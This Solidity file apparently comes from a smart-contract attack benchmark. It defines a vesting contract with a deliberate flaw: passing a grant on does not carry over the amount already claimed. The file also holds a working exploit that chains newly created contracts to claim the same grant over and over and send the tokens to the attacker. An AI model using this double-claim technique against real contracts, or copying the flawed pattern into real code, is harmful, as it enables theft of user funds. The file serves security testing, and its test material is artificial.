// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

import "./Common.sol";

/// Vested shares can be claimed and passed on; who receives them may claim again.
contract VestingPot {
    IERC20 public immutable token;
    mapping(address => uint256) public grant;
    mapping(address => uint256) public claimed;

    event Claimed(address indexed who, uint256 amount);
    event Passed(address indexed from, address indexed to, uint256 amount);

    constructor(IERC20 token_) {
        token = token_;
    }

    function give(address to, uint256 amount) external {
        grant[to] += amount;
        token.transferFrom(msg.sender, address(this), amount);
    }

    function claim(uint256 amount) external {
        require(claimed[msg.sender] + amount <= grant[msg.sender], "granted");
        claimed[msg.sender] += amount;
        token.transfer(msg.sender, amount);
        emit Claimed(msg.sender, amount);
    }

    function pass(address to) external {
        uint256 all = grant[msg.sender];
        grant[msg.sender] = 0;
        grant[to] += all;
        emit Passed(msg.sender, to, all);
    }
}

contract DoubleClaimScene is Scene {
    Token public usd;
    VestingPot public pot;

    constructor(Bank b, address t, address s) payable Scene(b, t, s) {
        usd = _usd();
        pot = new VestingPot(IERC20(address(usd)));
        usd.mint(address(this), 1_000_000_000e18);
        usd.approve(address(pot), type(uint256).max);
        pot.give(address(0xdead), 2_000_000e18);
        pot.give(t, 50_000e18);
        _protect(address(pot));
        loot0 = IERC20(address(usd));
    }

    function enrol(address[] calldata users) external override {
        for (uint256 i; i < users.length; i++) pot.give(users[i], 3_000e18);
    }

    function prelude(address attack) external view override returns (address, bytes memory) {
        return (address(pot), abi.encodeCall(VestingPot.pass, (attack)));
    }

    function menu(address who, uint256 dice) external view override returns (address, uint256, bytes memory) {
        uint256 left = pot.grant(who) - pot.claimed(who);
        if (left < 1e18) return (address(0), 0, "");
        return (address(pot), 0, abi.encodeCall(VestingPot.claim, (left * (1 + dice % 50) / 100)));
    }

    function errand(uint256 dice) external view override returns (address, address, uint256, bytes memory) {
        address to = address(uint160(dice >> 8));
        return (address(this), address(pot), 0, abi.encodeCall(VestingPot.give, (to, _amount(dice, 100e18, 900e18))));
    }
}

contract Claimant {
    function go(VestingPot pot, IERC20 token, uint256 amount, address next, address boss) external {
        pot.claim(amount);
        token.transfer(boss, amount);
        pot.pass(next);
    }
}

contract DoubleClaimAttack is Attack {
    VestingPot private immutable pot;

    constructor(DoubleClaimScene scene) Attack(scene) {
        pot = scene.pot();
    }

    function _act(uint256, uint256, uint256 count) internal override {
        uint256 amount = pot.grant(address(this));
        Claimant now_ = new Claimant();
        pot.pass(address(now_));
        uint256 rounds = 36 / count;
        for (uint256 i; i < rounds; i++) {
            Claimant next = new Claimant();
            now_.go(pot, loot0, amount, i + 1 == rounds ? address(this) : address(next), address(this));
            now_ = next;
        }
    }
}
